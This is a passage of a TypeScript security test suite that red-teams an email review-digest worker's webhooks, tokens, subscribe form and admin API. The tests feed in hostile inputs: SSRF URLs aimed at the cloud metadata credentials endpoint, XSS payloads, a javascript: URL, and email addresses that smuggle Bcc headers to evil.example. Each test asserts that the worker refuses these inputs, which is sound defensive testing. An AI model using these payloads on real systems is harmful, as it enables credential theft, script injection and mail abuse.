// Red team: attacks and faults a deployed review-digest meets at its HTTP edge, each asserting
// what a secure, well-made product must do. Only the network boundary is faked (Resend, feed
// servers, hubs, metadata addresses); every request goes through the worker's real handlers.
// Written by a reviewer red-teaming the worker: 6 of 36 failed, all fixed (placeholder admin
// secrets opened the API and the console, IPv6 /64 rotation and +tag aliases walked around the
// subscribe limits, a confirmation lost to a Resend 500 was not sent again, over-long local parts).
import { createExecutionContext, createScheduledController, env, waitOnExecutionContext } from "cloudflare:test";
import { describe, expect, it, vi } from "vitest";
import worker from "../../src/index";
import { signWebhookBody } from "../../src/core/channels/webhook";
import { hmac, toBase64, toBase64Url, toHex } from "../../src/crypto";
import { signToken } from "../../src/tokens";
import { buildMediumFeed, createFakeFeed, uniqueFeedUrl, uniqueItem } from "../support/fake-feed";
import { createFakeResend, type FakeResend } from "../support/fake-resend";
import { installNetwork } from "../support/network";
import { editionIdsOf } from "../support/pipeline";
import { setupWebSub } from "../support/websub";
import { consume as consumeBodies, recordQueue } from "../support/channels";
import { subscriberToken } from "../support/links";
import { confirmLinkIn, seedSubscriber, subscriberStatus, uniqueEmail } from "../support/subscribers";
import { arrange, consume as consumeChunks, deliveryEnv, emailsTo, setupResend } from "../jobs/deliver-support";
import { ADMIN_TOKEN, postForm, send as consoleSend, signIn } from "./console-support";

// ---------------------------------------------------------------------------------------------
// Helpers

async function call(request: Request, runEnv: Env = env): Promise<Response> {
  const ctx = createExecutionContext();
  const response = await worker.fetch(request, runEnv, ctx);
  await waitOnExecutionContext(ctx);
  return response;
}

const nowSeconds = () => Math.floor(Date.now() / 1000);
const randomIp = () => `198.18.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}`;
const bearer = { authorization: `Bearer ${ADMIN_TOKEN}` };

function withResend(): FakeResend {
  const resend = createFakeResend({ ratePerSecond: 10_000 });
  installNetwork({ "resend.test": resend.handle });
  return resend;
}

function subscribeJson(email: unknown, ip = randomIp(), extra: Record<string, string> = {}): Request {
  return new Request("https://digest.test/subscribe", {
    method: "POST",
    headers: { "content-type": "application/json", "cf-connecting-ip": ip, ...extra },
    body: JSON.stringify({ email }),
  });
}

async function rowCount(table: string, where = "1 = 1", ...binds: unknown[]): Promise<number> {
  const row = await env.DB.prepare(`SELECT COUNT(*) AS n FROM ${table} WHERE ${where}`).bind(...binds).first<{ n: number }>();
  return row?.n ?? 0;
}

/** Nothing an attacker may see: a stack frame, an exception name, a source path or a secret. */
function expectNoLeak(text: string) {
  expect(text).not.toMatch(/\bat [\w.<>]+ \(|TypeError|RangeError|SyntaxError|\/src\/|\.ts:\d+/);
  for (const secret of [env.ADMIN_TOKEN, env.TOKEN_SECRET, env.PUBLISH_SECRET, env.RESEND_API_KEY, env.RESEND_WEBHOOK_SECRET]) {
    if (secret) expect(text).not.toContain(secret);
  }
}

function publishRequest(body: string, signature?: string): Request {
  const headers: Record<string, string> = { "content-type": "application/json" };
  if (signature !== undefined) headers["x-signature"] = signature;
  return new Request("https://digest.test/hooks/publish", { method: "POST", headers, body });
}

function publishSetup(items = [uniqueItem(), uniqueItem()]) {
  const feed = createFakeFeed(buildMediumFeed(items));
  const resend = createFakeResend({ ratePerSecond: 10_000 });
  const probes: Request[] = [];
  const probe = (request: Request) => {
    probes.push(request);
    return new Response("secret-metadata");
  };
  const network = installNetwork({ "feeds.test": feed.handle, "resend.test": resend.handle, "169.254.169.254": probe, "127.0.0.1:8787": probe });
  const recorded = recordQueue();
  const runEnv: Env = { ...env, FEED_URL: uniqueFeedUrl(), DELIVERY_QUEUE: recorded.queue };
  const feedRequests = () => network.requests.filter((request) => new URL(request.url).host === "feeds.test").length;
  return { items, feed, resend, recorded, runEnv, feedRequests, probes };
}


const WEBHOOK_SECRET = "whsec_dGVzdC13ZWJob29rLXNlY3JldC0wMTIzNDU2Nzg5";

function svixKey(secret = WEBHOOK_SECRET): Uint8Array {
  return Uint8Array.from(atob(secret.slice("whsec_".length)), (char) => char.charCodeAt(0));
}

async function svixSignature(id: string, timestamp: string | number, body: string, secret = WEBHOOK_SECRET): Promise<string> {
  return toBase64(await hmac(svixKey(secret), `${id}.${timestamp}.${body}`));
}

function resendRequest(body: string, headers: { id: string; timestamp: string; signature: string }): Request {
  return new Request("https://digest.test/webhooks/resend", {
    method: "POST",
    headers: { "content-type": "application/json", "svix-id": headers.id, "svix-timestamp": headers.timestamp, "svix-signature": headers.signature },
    body,
  });
}

function complaint(to: string): string {
  return JSON.stringify({ type: "email.complained", created_at: new Date().toISOString(), data: { email_id: crypto.randomUUID(), to: [to] } });
}

function oneClick(token: string, body = "List-Unsubscribe=One-Click"): Request {
  return new Request(`https://digest.test/unsubscribe?token=${encodeURIComponent(token)}`, {
    method: "POST",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body,
  });
}

async function subscriberRow(id: number) {
  return env.DB.prepare("SELECT status, cadence, paused, token_version FROM subscribers WHERE id = ?1").bind(id).first();
}

// ---------------------------------------------------------------------------------------------

describe("POST /hooks/publish: signatures and replays", () => {
  it("refuses forged, truncated, re-encoded and misplaced signatures with 401, leaks nothing, runs nothing", async () => {
    const { runEnv, feedRequests, recorded } = publishSetup();
    const body = JSON.stringify({ action: "poll", nonce: crypto.randomUUID() });
    const t = nowSeconds();
    const mac = await hmac(env.PUBLISH_SECRET, `${t}.${body}`);
    const hex = toHex(mac);
    const variants: Array<[string, string | undefined]> = [
      ["no header", undefined],
      ["empty header", ""],
      ["only a timestamp", `t=${t}`],
      ["only a signature", `v1=${hex}`],
      ["truncated hex", `t=${t},v1=${hex.slice(0, 63)}`],
      ["one hex digit too many", `t=${t},v1=${hex}0`],
      ["base64 instead of hex", `t=${t},v1=${toBase64(mac)}`],
      ["base64url instead of hex", `t=${t},v1=${toBase64Url(mac)}`],
      ["an unknown scheme", `t=${t},v0=${hex}`],
      ["GitHub style", `sha256=${hex}`],
      ["another timestamp than signed", `t=${t + 1},v1=${hex}`],
      ["over another body", await signWebhookBody(env.PUBLISH_SECRET, '{"action":"poll"}', t)],
      ["with the wrong secret", await signWebhookBody("not-the-publish-secret-0123456789", body, t)],
      ["the JSON webhook's secret", await signWebhookBody("test-json-webhook-secret-0123456789", body, t)],
    ];
    for (const [label, header] of variants) {
      const response = await call(publishRequest(body, header), runEnv);
      expect(response.status, label).toBe(401);
      const text = await response.text();
      expect(JSON.parse(text), label).toMatchObject({ error: "invalid_signature", message: expect.stringMatching(/X-Signature/) });
      expect(text, label).not.toContain(hex);
      expectNoLeak(text);
    }
    expect(feedRequests()).toBe(0);
    expect(recorded.bodies).toEqual([]);
  });

  it("a re-encoded copy of an accepted request (upper-case hex, a zero-padded t, extra v1 entries) is a replay: 409, polled once", async () => {
    const { runEnv, feedRequests } = publishSetup();
    const body = JSON.stringify({ action: "poll", nonce: crypto.randomUUID() });
    const t = nowSeconds();
    const hex = toHex(await hmac(env.PUBLISH_SECRET, `${t}.${body}`));
    expect((await call(publishRequest(body, `t=${t},v1=${hex}`), runEnv)).status).toBe(202);
    expect(feedRequests()).toBe(1);
    for (const header of [`t=${t},v1=${hex.toUpperCase()}`, `t=0${t},v1=${hex}`, `v1=${"0".repeat(64)},t=${t},v1=${hex}`, ` t=${t} , v1=${hex} `]) {
      const again = await call(publishRequest(body, header), runEnv);
      expect(again.status, header).toBe(409);
      expect(await again.json()).toMatchObject({ error: "replayed" });
    }
    expect(feedRequests()).toBe(1);
  });

  it("the same signed delivery arriving twice at once is accepted once and refused once", async () => {
    const { runEnv, feedRequests } = publishSetup();
    const body = JSON.stringify({ action: "poll", nonce: crypto.randomUUID() });
    const header = await signWebhookBody(env.PUBLISH_SECRET, body, nowSeconds());
    const answers = await Promise.all([call(publishRequest(body, header), runEnv), call(publishRequest(body, header), runEnv)]);
    expect(answers.map((answer) => answer.status).sort()).toEqual([202, 409]);
    expect(feedRequests()).toBe(1);
  });

  it("two re-signed 'send' requests for one new review, arriving together, send it to each reader once", async () => {
    const setup = publishSetup();
    const reader = await seedSubscriber();
    const body = JSON.stringify({ action: "send", url: setup.items[0]?.link });
    const t = nowSeconds();
    const answers = await Promise.all([
      call(publishRequest(body, await signWebhookBody(env.PUBLISH_SECRET, body, t)), setup.runEnv),
      call(publishRequest(body, await signWebhookBody(env.PUBLISH_SECRET, body, t - 1)), setup.runEnv),
    ]);
    for (const answer of answers) expect([200, 202]).toContain(answer.status);
    expect(await editionIdsOf(setup.runEnv.FEED_URL)).toHaveLength(1);
    await consumeBodies(setup.runEnv, setup.recorded.bodies);
    expect(setup.resend.sentTo(reader.email)).toHaveLength(1);
  });

  it("a signed 'send' naming an internal URL never makes the worker fetch it (no SSRF through the hook)", async () => {
    const setup = publishSetup();
    for (const url of ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8787/admin/status"]) {
      const body = JSON.stringify({ action: "send", url });
      const answer = await call(publishRequest(body, await signWebhookBody(env.PUBLISH_SECRET, body, nowSeconds())), setup.runEnv);
      expect(answer.status).toBeLessThan(500);
      expectNoLeak(await answer.text());
    }
    expect(setup.probes).toEqual([]);
    expect(await editionIdsOf(setup.runEnv.FEED_URL)).toEqual([]);
  });

  it("signed but hostile bodies (deep nesting, script URLs, arrays) get a 400 with a message, never a 500", async () => {
    const { runEnv, feedRequests } = publishSetup();
    const bodies = [
      `${"[".repeat(5000)}${"]".repeat(5000)}`,
      JSON.stringify({ action: "send", url: "javascript:alert(document.domain)", n: crypto.randomUUID() }),
      JSON.stringify({ action: "send", url: "//evil.example/x", n: crypto.randomUUID() }),
      JSON.stringify({ action: ["poll"], n: crypto.randomUUID() }),
      JSON.stringify({ action: "poll\u0000", n: crypto.randomUUID() }),
    ];
    for (const body of bodies) {
      const answer = await call(publishRequest(body, await signWebhookBody(env.PUBLISH_SECRET, body, nowSeconds())), runEnv);
      expect(answer.status, body.slice(0, 40)).toBe(400);
      const text = await answer.text();
      expect(JSON.parse(text)).toMatchObject({ error: "invalid_body", message: expect.any(String) });
      expectNoLeak(text);
    }
    expect(feedRequests()).toBe(0);
  });
});

describe("POST /webhooks/resend (Standard Webhooks)", () => {
  it("refuses a wrong secret, a v2 or base64url signature, a swapped id, a changed or millisecond timestamp: 401, nothing changes", async () => {
    const reader = await seedSubscriber();
    const body = complaint(reader.email);
    const id = `msg_${crypto.randomUUID()}`;
    const ts = String(nowSeconds());
    const good = await svixSignature(id, ts, body);
    const ms = String(Date.now());
    const variants: Array<[string, { id: string; timestamp: string; signature: string }]> = [
      ["another secret", { id, timestamp: ts, signature: `v1,${await svixSignature(id, ts, body, "whsec_b3RoZXItc2VjcmV0LW90aGVyLXNlY3JldA==")}` }],
      ["a v2 entry", { id, timestamp: ts, signature: `v2,${good}` }],
      ["base64url", { id, timestamp: ts, signature: `v1,${good.replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "")}x` }],
      ["no version", { id, timestamp: ts, signature: good }],
      ["the id swapped after signing", { id: `msg_${crypto.randomUUID()}`, timestamp: ts, signature: `v1,${good}` }],
      ["the timestamp changed after signing", { id, timestamp: String(Number(ts) - 1), signature: `v1,${good}` }],
      ["a millisecond timestamp", { id, timestamp: ms, signature: `v1,${await svixSignature(id, ms, body)}` }],
      ["a 6-minute-old timestamp", { id, timestamp: String(Number(ts) - 360), signature: `v1,${await svixSignature(id, Number(ts) - 360, body)}` }],
      ["an empty id", { id: "", timestamp: ts, signature: `v1,${await svixSignature("", ts, body)}` }],
    ];
    const seenBefore = await rowCount("seen_messages", "source = 'resend'");
    for (const [label, headers] of variants) {
      const response = await call(resendRequest(body, headers));
      expect(response.status, label).toBe(401);
      const text = await response.text();
      expect(JSON.parse(text), label).toMatchObject({ error: "invalid_signature" });
      expectNoLeak(text);
    }
    expect(await subscriberStatus(reader.email)).toBe("active");
    expect(await rowCount("seen_messages", "source = 'resend'")).toBe(seenBefore);
  });

  it("Resend's retry of one svix-id (re-signed later) and a concurrent duplicate are applied once", async () => {
    const reader = await seedSubscriber();
    const body = complaint(reader.email);
    const id = `msg_${crypto.randomUUID()}`;
    const signed = async (ts: number) => resendRequest(body, { id, timestamp: String(ts), signature: `v1,${await svixSignature(id, ts, body)}` });
    const t = nowSeconds();
    const answers = await Promise.all([call(await signed(t - 30)), call(await signed(t - 30)), call(await signed(t))]);
    const bodies = await Promise.all(answers.map((answer) => answer.json<{ ok: boolean; effect?: string; duplicate?: boolean }>()));
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200]);
    expect(bodies.filter((answer) => answer.effect === "suppressed")).toHaveLength(1);
    expect(bodies.filter((answer) => answer.duplicate === true)).toHaveLength(2);
    expect(await subscriberStatus(reader.email)).toBe("complained");
    expect(await rowCount("seen_messages", "source = 'resend' AND id = ?1", id)).toBe(1);
  });
});

describe("WebSub callback", () => {
  it("echoes a hostile hub.challenge only as inert text, and a validly signed push to a wrong key is 410 and runs nothing", async () => {
    const { items, hubRequests, recorded, runEnv, cron } = setupWebSub();
    await cron();
    const callback = hubRequests[0]?.get("hub.callback") ?? "";
    const secret = hubRequests[0]?.get("hub.secret") ?? "";
    expect(callback).toMatch(/^https:\/\/digest\.test\/websub\/callback\/\d+\/.+/);

    const verify = new URL(callback);
    const challenge = "<script>alert(document.cookie)</script>";
    for (const [name, value] of Object.entries({ "hub.mode": "subscribe", "hub.topic": runEnv.FEED_URL, "hub.challenge": challenge, "hub.lease_seconds": "864000" })) {
      verify.searchParams.set(name, value);
    }
    const echoed = await call(new Request(verify), runEnv);
    expect(echoed.status).toBe(200);
    expect(echoed.headers.get("content-type") ?? "").toMatch(/^text\/plain/);
    expect(echoed.headers.get("x-content-type-options")).toBe("nosniff");
    expect(await echoed.text()).toBe(challenge);

    const xml = buildMediumFeed([uniqueItem("pushed"), ...items]);
    const signature = `sha256=${toHex(await hmac(secret, xml))}`;
    const wrongKey = callback.replace(/\/[^/]+$/, "/not-the-key");
    const pushed = await call(new Request(wrongKey, { method: "POST", headers: { "content-type": "application/rss+xml", "x-hub-signature": signature }, body: xml }), runEnv);
    expect(pushed.status).toBe(410);
    expect(await editionIdsOf(runEnv.FEED_URL)).toEqual([]);
    expect(recorded.bodies).toEqual([]);
  });
});

describe("subscriber link tokens", () => {
  it("a tampered, re-encoded, re-versioned, downgraded, cross-purpose or cross-subscriber token never unsubscribes", async () => {
    const victim = await seedSubscriber();
    const other = await seedSubscriber();
    const good = await subscriberToken("unsubscribe", victim.id);
    const [, payload, signature] = good.split(".") as [string, string, string];
    const mac = await hmac(env.TOKEN_SECRET, `unsubscribe.v2.${payload}`);
    const otherToken = await subscriberToken("unsubscribe", other.id);
    const forgedClaims = toBase64Url(new TextEncoder().encode(JSON.stringify({ sub: String(victim.id), key: "guessed" })));
    const before = await subscriberRow(victim.id);
    const variants: Array<[string, string]> = [
      ["signature truncated", good.slice(0, -1)],
      ["signature padded with =", `${good}=`],
      ["trailing space", `${good} `],
      ["leading space", ` ${good}`],
      ["upper-case version", `V2.${payload}.${signature}`],
      ["unknown version", `v3.${payload}.${signature}`],
      ["downgraded to the v1 format", `${payload}.${signature}`],
      ["signature in standard base64", `v2.${payload}.${toBase64(mac)}`],
      ["signature in hex", `v2.${payload}.${toHex(mac)}`],
      ["payload re-padded", `v2.${payload}==.${signature}`],
      ["empty payload", `v2..${signature}`],
      ["confirm token", await subscriberToken("confirm", victim.id, { exp: Date.now() + 3_600_000, ver: 0 })],
      ["preferences token", await subscriberToken("preferences", victim.id)],
      ["session-purpose token", await signToken(env.TOKEN_SECRET, "session", { sub: String(victim.id), key: "x" })],
      ["another subscriber's signature", `v2.${payload}.${otherToken.split(".")[2]}`],
      ["claims rewritten", `v2.${forgedClaims}.${signature}`],
    ];
    for (const [label, token] of variants) {
      const response = await call(oneClick(token));
      expect(response.status, label).toBe(400);
      expectNoLeak(await response.text());
    }
    const page = await call(oneClick(`${good}x`, "source=page"));
    expect(page.status).toBe(400);
    expect(page.headers.get("content-type") ?? "").toMatch(/text\/html/);
    expect(await page.text()).toMatch(/This link did not work|not valid/);
    expect(await subscriberRow(victim.id)).toEqual(before);
    expect(await subscriberStatus(other.email)).toBe("active");
  });

  it("GET and HEAD (link scanners) never unsubscribe; the RFC 8058 POST does, with a blank 200, and a repeat is still 200", async () => {
    const reader = await seedSubscriber();
    const token = await subscriberToken("unsubscribe", reader.id);
    const url = `https://digest.test/unsubscribe?token=${encodeURIComponent(token)}`;
    expect((await call(new Request(url))).status).toBe(200);
    expect((await call(new Request(url, { method: "HEAD" }))).status).toBeLessThan(300);
    expect(await subscriberStatus(reader.email)).toBe("active");
    const first = await call(oneClick(token));
    expect(first.status).toBe(200);
    expect(await first.text()).toBe("");
    expect(await subscriberStatus(reader.email)).toBe("unsubscribed");
    const again = await call(oneClick(token));
    expect(again.status).toBe(200);
    expect(await subscriberStatus(reader.email)).toBe("unsubscribed");
  });

  it("an unsubscribe or confirm token cannot change preferences", async () => {
    const reader = await seedSubscriber({ cadence: "instant" });
    const before = await subscriberRow(reader.id);
    for (const token of [await subscriberToken("unsubscribe", reader.id), await subscriberToken("confirm", reader.id, { exp: Date.now() + 3_600_000, ver: 0 })]) {
      const response = await call(
        new Request("https://digest.test/preferences", {
          method: "POST",
          headers: { "content-type": "application/x-www-form-urlencoded" },
          body: new URLSearchParams({ token, cadence: "weekly", paused: "yes" }).toString(),
        }),
      );
      expect(response.status).toBe(400);
    }
    expect(await subscriberRow(reader.id)).toEqual(before);
  });

  it("a confirmation link pressed after the reader unsubscribed does not subscribe them again", async () => {
    const resend = withResend();
    const email = uniqueEmail("regret");
    expect((await call(subscribeJson(email))).status).toBe(202);
    const link = confirmLinkIn(resend.sentTo(email)[0]?.text);
    const press = () => new Request(link, { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "source=page" });
    expect((await call(press())).status).toBe(200);
    expect(await subscriberStatus(email)).toBe("active");
    const id = (await env.DB.prepare("SELECT id FROM subscribers WHERE email = ?1").bind(email).first<{ id: number }>())?.id ?? 0;
    expect((await call(oneClick(await subscriberToken("unsubscribe", id)))).status).toBe(200);
    const again = await call(press());
    expect(again.status).toBe(400);
    expect(await subscriberStatus(email)).toBe("unsubscribed");
  });
});

describe("POST /subscribe: hostile addresses and bodies", () => {
  it("refuses header injection, display names, lists, missing TLDs and invisible characters: 400 JSON, nothing stored or sent", async () => {
    const resend = withResend();
    const tag = crypto.randomUUID().slice(0, 8);
    const hostile = [
      `victim-${tag}@example.org\r\nBcc: list-${tag}@evil.example`,
      `victim-${tag}@example.org\nCc: list-${tag}@evil.example`,
      `Victim <victim-${tag}@example.org>`,
      `<victim-${tag}@example.org>`,
      `victim-${tag}@example.org, list-${tag}@evil.example`,
      `victim-${tag}@example.org;list-${tag}@evil.example`,
      `victim-${tag}@localhost`,
      `victim-${tag}@b`,
      `victim-${tag}@b.c`,
      `vic\u200btim-${tag}@example.org`,
      `victim-${tag}@exa\u202emple.org`,
      `victim-${tag}@example.org\u0000`,
      `.victim-${tag}@example.org`,
      `victim..${tag}@example.org`,
      `victim-${tag}@[127.0.0.1]`,
      `victim-${tag}@example.org\u0085Bcc: list-${tag}@evil.example`,
    ];
    const before = await rowCount("subscribers");
    for (const email of hostile) {
      const response = await call(subscribeJson(email));
      expect(response.status, JSON.stringify(email)).toBe(400);
      const answer = await response.json<{ error: string; message: string }>();
      expect(answer.error).toBe("invalid_input");
      expect(answer.message).toMatch(/valid email address/);
    }
    expect(await rowCount("subscribers")).toBe(before);
    expect(await rowCount("subscribers", "email LIKE ?1", `%${tag}%`)).toBe(0);
    expect(resend.sent).toEqual([]);
  });

  it("refuses an address no mail system can deliver to: a local part over 64 or a domain label over 63 characters (RFC 5321)", async () => {
    const resend = withResend();
    const tag = crypto.randomUUID().slice(0, 8);
    for (const email of [`${tag}${"a".repeat(57)}@example.org`, `${tag}@${"b".repeat(64)}.example.org`]) {
      expect(email.length).toBeLessThanOrEqual(254);
      const response = await call(subscribeJson(email));
      expect(response.status, email).toBe(400);
    }
    expect(await rowCount("subscribers", "email LIKE ?1", `${tag}%`)).toBe(0);
    expect(resend.sent).toEqual([]);
  });

  it("upper-case and padded copies of one address make one row and one confirmation", async () => {
    const resend = withResend();
    const email = uniqueEmail("dup");
    for (const variant of [email, email.toUpperCase(), `  ${email.replace(/^./, (c) => c.toUpperCase())}\t`, `${email}\n`]) {
      expect((await call(subscribeJson(variant))).status).toBe(202);
    }
    expect(await rowCount("subscribers", "lower(email) = ?1", email)).toBe(1);
    expect(resend.sentTo(email)).toHaveLength(1);
  });

  it("ten simultaneous requests for one new address make one row and one confirmation", async () => {
    const resend = withResend();
    const email = uniqueEmail("race");
    const answers = await Promise.all(Array.from({ length: 10 }, () => call(subscribeJson(email))));
    expect(answers.every((answer) => answer.status === 202)).toBe(true);
    expect(await rowCount("subscribers", "email = ?1", email)).toBe(1);
    expect(resend.sentTo(email)).toHaveLength(1);
  });

  it("the form's error page shows a hostile address back as text, never as markup", async () => {
    withResend();
    const payload = `"><script>alert(1)</script><img src=x onerror=alert(2)>@x`;
    const response = await call(
      new Request("https://digest.test/subscribe", {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded", "cf-connecting-ip": randomIp() },
        body: new URLSearchParams({ email: payload }).toString(),
      }),
    );
    expect(response.status).toBe(400);
    const html = await response.text();
    expect(html).toContain("Enter a valid email address");
    expect(html).not.toContain("<script>alert(1)");
    expect(html).not.toContain("<img src=x");
    expect(html).not.toMatch(/value=""><script/);
  });

  it("a multipart body with a file named 'email', and JSON with an object for the address, are 400s, not 500s", async () => {
    withResend();
    const form = new FormData();
    form.append("email", new File(["victim@example.org"], "email.txt", { type: "text/plain" }));
    const multipart = await call(new Request("https://digest.test/subscribe", { method: "POST", headers: { "cf-connecting-ip": randomIp() }, body: form }));
    expect(multipart.status).toBe(400);
    expectNoLeak(await multipart.text());
    for (const email of [{ $ne: null }, ["a@example.org"], { toString: "a@example.org" }]) {
      const response = await call(subscribeJson(email));
      expect(response.status).toBe(400);
      expectNoLeak(await response.text());
    }
  });

  it("gives another site's script no CORS grant, on the preflight or the POST", async () => {
    withResend();
    const scoped = { ...env, CORS_ORIGINS: "https://critic.example" };
    const preflight = await call(
      new Request("https://digest.test/subscribe", {
        method: "OPTIONS",
        headers: { origin: "https://evil.example", "access-control-request-method": "POST", "access-control-request-headers": "content-type" },
      }),
      scoped,
    );
    expect(preflight.headers.get("access-control-allow-origin")).toBeNull();
    const post = await call(subscribeJson(uniqueEmail("cors"), randomIp(), { origin: "https://critic.example.evil.example" }), scoped);
    expect(post.headers.get("access-control-allow-origin")).toBeNull();
    expect(post.headers.get("access-control-allow-credentials")).toBeNull();
  });
});

describe("subscribe flooding and lost confirmations", () => {
  it("one client rotating addresses inside its IPv6 /64 is still rate-limited", async () => {
    withResend();
    const prefix = `2001:db8:${Math.floor(Math.random() * 0xffff).toString(16)}:${Math.floor(Math.random() * 0xffff).toString(16)}`;
    const statuses: number[] = [];
    for (let i = 1; i <= 40; i++) statuses.push((await call(subscribeJson(uniqueEmail("v6"), `${prefix}::${i.toString(16)}`))).status);
    expect(statuses).toContain(429);
  });

  it("a victim's mailbox is not flooded with confirmations through +tag aliases of one address", async () => {
    const resend = withResend();
    const local = `victim-${crypto.randomUUID().slice(0, 8)}`;
    for (let i = 1; i <= 5; i++) expect((await call(subscribeJson(`${local}+${i}@example.org`))).status).toBe(202);
    const toMailbox = resend.sent.filter((email) => email.to.some((to) => new RegExp(`^${local}(\\+[^@]*)?@example\\.org$`).test(to)));
    expect(toMailbox.length).toBeLessThanOrEqual(1);
  });

  it("a confirmation lost to a Resend 500 is sent when the reader asks again", async () => {
    const resend = withResend();
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    const email = uniqueEmail("lost");
    resend.failNext({ type: "status", status: 500 });
    expect((await call(subscribeJson(email))).status).toBe(202);
    expect(resend.sentTo(email)).toHaveLength(0);
    // No email came; a minute later the reader submits the form again.
    const again = await call(subscribeJson(email));
    expect(again.status).toBe(202);
    expect(resend.sentTo(email)).toHaveLength(1);
  });
});

describe("admin API and console", () => {
  it("every bearer route refuses no token, a wrong, truncated or query-string token, Basic auth and a console cookie, changing nothing", async () => {
    const { runEnv, feedRequests } = publishSetup();
    const kept = await seedSubscriber();
    const newcomer = uniqueEmail("import");
    const session = await signIn();
    const routes: Array<[string, string, BodyInit | undefined, Record<string, string>]> = [
      ["POST", "/admin/poll", undefined, {}],
      ["POST", "/admin/send-latest", "", {}],
      ["GET", "/admin/status", undefined, {}],
      ["GET", "/admin/outbox", undefined, {}],
      ["GET", "/admin/subscribers", undefined, {}],
      ["POST", "/admin/subscribers", JSON.stringify([{ email: newcomer }]), { "content-type": "application/json" }],
      ["DELETE", `/admin/subscribers/${encodeURIComponent(kept.email)}`, undefined, {}],
    ];
    const auths: Array<[string, Record<string, string>, string]> = [
      ["none", {}, ""],
      ["wrong", { authorization: "Bearer wrong-admin-token-0123456789" }, ""],
      ["truncated", { authorization: `Bearer ${ADMIN_TOKEN.slice(0, -1)}` }, ""],
      ["extended", { authorization: `Bearer ${ADMIN_TOKEN}x` }, ""],
      ["no scheme", { authorization: ADMIN_TOKEN }, ""],
      ["basic", { authorization: `Basic ${btoa(`admin:${ADMIN_TOKEN}`)}` }, ""],
      ["query string", {}, `?token=${ADMIN_TOKEN}&access_token=${ADMIN_TOKEN}&admin_token=${ADMIN_TOKEN}`],
      ["console cookie", { cookie: session.cookie }, ""],
      ["header as cookie", { cookie: `authorization=Bearer ${ADMIN_TOKEN}` }, ""],
    ];
    for (const [method, path, body, headers] of routes) {
      for (const [label, auth, query] of auths) {
        const response = await call(new Request(`https://digest.test${path}${query}`, { method, headers: { ...headers, ...auth }, body }), runEnv);
        expect(response.status, `${method} ${path} (${label})`).toBe(401);
        expect(response.headers.get("www-authenticate")).toMatch(/^Bearer/);
        const text = await response.text();
        expect(JSON.parse(text)).toMatchObject({ error: "unauthorized" });
        expect(text).not.toContain(ADMIN_TOKEN);
      }
    }
    expect(await subscriberStatus(kept.email)).toBe("active");
    expect(await subscriberStatus(newcomer)).toBeUndefined();
    expect(feedRequests()).toBe(0);
  });

  it("the bearer API refuses an ADMIN_TOKEN that the settings themselves refuse as a placeholder or too short", async () => {
    const secretReader = await seedSubscriber();
    for (const weak of ["changeme", "admin", "changemechangeme"]) {
      const weakEnv = { ...env, ADMIN_TOKEN: weak };
      const listed = await call(new Request("https://digest.test/admin/subscribers?limit=200", { headers: { authorization: `Bearer ${weak}` } }), weakEnv);
      expect(listed.status, weak).not.toBe(200);
      expect(await listed.text()).not.toContain(secretReader.email);
      const erased = await call(new Request(`https://digest.test/admin/subscribers/${encodeURIComponent(secretReader.email)}`, { method: "DELETE", headers: { authorization: `Bearer ${weak}` } }), weakEnv);
      expect(erased.status, weak).not.toBe(200);
    }
    expect(await subscriberStatus(secretReader.email)).toBe("active");
  });

  it("the console refuses to sign in with a placeholder ADMIN_TOKEN the settings refuse", async () => {
    const weak = "changemechangeme";
    const weakEnv = { ...env, ADMIN_TOKEN: weak };
    const response = await consoleSend("/admin/login", { method: "POST", body: new URLSearchParams({ token: weak }) }, weakEnv);
    expect(response.status).not.toBe(303);
    expect(response.headers.get("set-cookie") ?? "").not.toContain("rd_console=");
  });

  it("console erase: no CSRF token, another session's token, a token in the query, or a signed-out cookie change nothing", async () => {
    const target = await seedSubscriber();
    const mine = await signIn();
    const theirs = await signIn();
    const erase = (cookie: string, fields: Record<string, string>, query = "") =>
      consoleSend(`/admin/console/subscribers/erase${query}`, { method: "POST", headers: { cookie }, body: new URLSearchParams({ email: target.email, confirm: "yes", ...fields }) });
    expect((await erase(mine.cookie, {})).status).toBe(403);
    expect((await erase(mine.cookie, { csrf: theirs.csrf })).status).toBe(403);
    expect((await erase(mine.cookie, { csrf: "" })).status).toBe(403);
    expect((await erase(mine.cookie, {}, `?csrf=${encodeURIComponent(mine.csrf)}`)).status).toBe(403);
    expect((await postForm(mine, "/admin/logout", {})).status).toBe(303);
    const signedOut = await erase(mine.cookie, { csrf: mine.csrf });
    expect(signedOut.status).toBe(302);
    expect(signedOut.headers.get("location")).toBe("/admin/login");
    expect(await subscriberStatus(target.email)).toBe("active");
    // The control: the other, valid session with its own token does erase.
    expect((await erase(theirs.cookie, { csrf: theirs.csrf })).status).toBe(200);
    expect(await subscriberStatus(target.email)).toBeUndefined();
  });

  it("an import never re-activates an unsubscribed, bounced or complained address, and rejects injected rows", async () => {
    const gone = await seedSubscriber({ status: "unsubscribed" });
    const bounced = await seedSubscriber({ status: "bounced" });
    const complained = await seedSubscriber({ status: "complained" });
    const fresh = uniqueEmail("fresh");
    const rows = [
      { email: gone.email.toUpperCase() },
      { email: ` ${bounced.email} ` },
      { email: complained.email, name: "Re-added" },
      { email: `x-${crypto.randomUUID().slice(0, 6)}@example.org\r\nBcc: all@evil.example` },
      { email: `Named <n-${crypto.randomUUID().slice(0, 6)}@example.org>` },
      { email: fresh },
    ];
    const response = await call(new Request("https://digest.test/admin/subscribers", { method: "POST", headers: { ...bearer, "content-type": "application/json" }, body: JSON.stringify(rows) }));
    expect(response.status).toBe(200);
    const answer = await response.json<{ imported: number; invalid: unknown[] }>();
    expect(answer.imported).toBe(1);
    expect(answer.invalid).toHaveLength(2);
    expect(await subscriberStatus(gone.email)).toBe("unsubscribed");
    expect(await subscriberStatus(bounced.email)).toBe("bounced");
    expect(await subscriberStatus(complained.email)).toBe("complained");
    expect(await subscriberStatus(fresh)).toBe("active");
    expect(await rowCount("subscribers", "email LIKE '%evil.example%' OR email LIKE '%<%'")).toBe(0);
  });

  it("a GDPR erase typed with capitals and percent-encoding removes the stored lower-case row", async () => {
    const reader = await seedSubscriber();
    const typed = encodeURIComponent(reader.email.toUpperCase());
